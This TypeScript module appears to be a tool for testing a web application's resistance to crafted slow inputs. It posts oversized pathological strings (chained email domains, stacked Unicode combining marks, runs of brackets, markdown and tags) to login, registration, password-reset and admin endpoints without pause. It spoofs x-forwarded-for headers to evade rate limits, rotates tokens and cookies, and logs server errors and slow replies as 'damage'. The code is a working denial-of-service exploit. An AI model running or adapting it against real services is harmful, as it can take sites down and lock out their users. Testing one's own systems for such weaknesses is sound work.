import { addressNumber } from '../site/crowd';
import type { Damage, Target } from './target';

const KB = 1024;
const FIELD = 63 * KB;
const BODY = 250 * KB;
const OVER = 400; // milliseconds after which a response is named

/** Texts that are costly for code that processes them before checking their length. */
const NASTY: Record<string, (bytes: number) => string> = {
  'partes de dominio': (bytes) => `a@a${'.a'.repeat((bytes - 4) / 2)}@`,
  puntos: (bytes) => '.'.repeat(bytes),
  espacios: (bytes) => `a${' '.repeat(bytes - 2)}a`,
  'líneas en blanco': (bytes) => ' \n'.repeat(bytes / 2),
  'marcas que se combinan': (bytes) => '\u0327\u0301'.repeat(bytes / 4),
  'marcas tras una letra': (bytes) => `a${'\u0345\u0334'.repeat(bytes / 4 - 1)}`,
  énfasis: (bytes) => '*a_ '.repeat(bytes / 4),
  corchetes: (bytes) => '['.repeat(bytes),
  citas: (bytes) => '>'.repeat(bytes),
  enlaces: (bytes) => '[a](b'.repeat(bytes / 5),
  etiquetas: (bytes) => '<b>'.repeat(bytes / 3),
  comillas: (bytes) => '"\\'.repeat(bytes / 4),
};

interface Door {
  path: string;
  fields: string[];
  method?: 'POST' | 'PUT';
  as?: 'member' | 'admin';
}

const CALLS: Door[] = [
  { path: '/api/login', fields: ['username', 'password'] },
  { path: '/api/register', fields: ['first_name', 'last_name', 'email', 'password'] },
  { path: '/api/forgot-password', fields: ['email'] },
  { path: '/api/resend-verification', fields: ['email'] },
  { path: '/api/verify-email', fields: ['token'] },
  { path: '/api/reset-password', fields: ['token', 'new_password'] },
  { path: '/api/notes/save?volume=11&index=5', fields: ['note_text'], as: 'admin' },
  { path: '/api/videos/watch', fields: ['video_id'], as: 'admin' },
  { path: '/api/admin/about', fields: ['content'], as: 'admin' },
];
const FORMS: Door[] = [
  { path: '/user-login', fields: ['email', 'password'] },
  { path: '/login', fields: ['email', 'password'] },
  { path: '/register', fields: ['first_name', 'last_name', 'email', 'password', 'confirm_password'] },
  { path: '/forgot-password', fields: ['email'] },
  { path: '/verify-email', fields: ['email', 'token'] },
  { path: '/reset-password', fields: ['token', 'new_password', 'confirm_password'] },
  { path: '/volume/11?chapter=5', fields: ['note_text'], as: 'member' },
];

interface Shot {
  name: string;
  path: string;
  init: RequestInit;
}

/**
 * Sends every nasty text, as large as allowed, to every field that anybody can fill, one after the other without a
 * pause.
 */
export async function sendBodies(target: Target): Promise<Damage> {
  const damage: Damage = { sent: 0, figures: await critical(target.url), faults: [] };
  for (const shot of shots(target)) {
    const { ms, status } = await shoot(target.url, shot);
    damage.sent += 1;
    if (status >= 500) damage.faults.push(`${shot.name} answered ${status}`);
    if (ms > OVER) damage.figures.push(`${shot.name}: ${ms.toFixed(0)} ms`);
  }
  return damage;
}

/** Sends the two bodies that once stopped a site, each alone, and takes the quickest of three. */
async function critical(origin: string): Promise<string[]> {
  const post = (path: string, body: object): Shot => ({
    name: path,
    path,
    init: {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': addressNumber(60_000) },
      body: JSON.stringify(body),
    },
  });
  const domain = post('/api/forgot-password', { email: `a@a${'.a'.repeat(60_000)}@` });
  const marks = post('/api/login', { username: 'a'.concat('\u0327\u0301'.repeat(63_000)), password: 'a' });
  const figures: string[] = [];
  for (const [name, shot] of [
    ['el correo de 60 000 partes', domain],
    ['las 126 000 marcas', marks],
  ] as const) {
    const times: number[] = [];
    for (let tries = 0; tries < 3; tries += 1) times.push((await shoot(origin, shot)).ms);
    figures.push(`${name}: ${Math.min(...times).toFixed(0)} ms`);
  }
  return figures;
}

async function shoot(origin: string, { path, init }: Shot): Promise<{ ms: number; status: number }> {
  const started = performance.now();
  const response = await fetch(origin + path, { ...init, redirect: 'manual' });
  await response.arrayBuffer();
  return { ms: performance.now() - started, status: response.status };
}

function shots({ cookies, tokens }: Target): Shot[] {
  const all: Shot[] = [];
  const from = () => ({ 'x-forwarded-for': addressNumber(all.length) });
  for (const [kind, text] of Object.entries(NASTY)) {
    for (const door of CALLS) {
      for (const field of door.fields) {
        const token = door.as && { authorization: `Bearer ${tokens[all.length % tokens.length]}` };
        const body = JSON.stringify(filled(door, field, text(BODY)));
        const headers = { 'content-type': 'application/json', ...from(), ...token };
        all.push({ name: `${door.path} ${field}: ${kind}`, path: door.path, init: { method: 'POST', headers, body } });
      }
    }
    for (const door of FORMS) {
      for (const field of door.fields) {
        const cookie = door.as && { cookie: cookies[all.length % cookies.length] ?? '' };
        const body = new URLSearchParams({ intent: 'note', index: '5', ...filled(door, field, text(FIELD)) });
        const headers = { 'sec-fetch-site': 'same-origin', ...from(), ...cookie };
        all.push({ name: `${door.path} ${field}: ${kind}`, path: door.path, init: { method: 'POST', headers, body } });
      }
    }
  }
  return all;
}

const filled = (door: Door, field: string, text: string) =>
  Object.fromEntries(door.fields.map((name): [string, string] => [name, name === field ? text : 'a@b.example']));
